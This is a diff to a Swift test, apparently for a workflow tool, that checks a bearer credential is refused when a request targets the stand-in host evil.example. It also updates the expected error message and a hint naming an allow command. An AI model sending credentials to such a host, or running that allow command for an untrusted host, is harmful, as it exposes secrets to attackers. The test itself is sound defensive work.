@@ -155,10 +155,11 @@ import Testing
         let failure = await failure {
             try await runNode("http.request", ["url": "https://evil.example/x"], credential: token)
         }
-        #expect(failure?.kind == .auth)
-        #expect(failure?.message == "the credential \"api\" is not allowed for https://evil.example")
+        #expect(failure?.kind == .permission)
+        #expect(failure?.message == "credential \"api\" of type bearer was not made for https://evil.example")
         #expect(
-            failure?.hint == "add it again with --replace --host https://evil.example if it is meant to go there")
+            failure?.hint
+                == "allow it, if it is meant to go there: flowctl credentials allow api --host https://evil.example")
     }
 
     @Test func otherTypesOfCredential() async throws {
